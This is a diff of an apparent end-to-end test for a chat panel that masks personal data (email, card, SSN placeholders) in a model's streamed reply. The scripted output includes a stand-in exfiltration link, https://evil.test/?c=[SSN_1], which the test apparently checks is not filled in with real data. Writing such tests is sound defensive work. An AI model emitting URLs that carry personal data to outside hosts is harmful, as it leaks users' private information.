@@ -65,11 +65,14 @@ async function askPreviewed(
   kind: keyof typeof kinds,
   question: string,
 ): Promise<void> {
+  const ask = question.slice(0, 7);
   await control.script(kinds[kind], {
-    tokens: ['Done: [EMA', 'IL_1], [CARD_1', ']; https://evil.test/?c=[SSN_1] and [EMAIL_9].'],
+    tokens: [
+      `${ask}: [EMA`,
+      ...['IL_1], [CARD_1', ']; https://evil.test/?c=[SSN_1] and [EMAIL_9].'],
+    ],
   });
   await panel.driver.fill('textbox', 'Message', question);
-  const ask = question.slice(0, 7);
   const shown = await until(
     `the preview of ${ask} for ${kind}`,
     () => readPreview(panel),
@@ -78,7 +81,7 @@ async function askPreviewed(
   const before = (await control.requests()).length;
   await panel.driver.click('button', 'Send');
   await panel.settlesAs(
-    `Done: ${planted.EMAIL}, ${planted.CARD}; https://evil.test/?c=[SSN_1] and [EMAIL_9].`,
+    `${ask}: ${planted.EMAIL}, ${planted.CARD}; https://evil.test/?c=[SSN_1] and [EMAIL_9].`,
   );
   const sent = (await control.requests()).slice(before);
   const received = new Set(sent.flatMap(({ body }) => textsIn(body)));
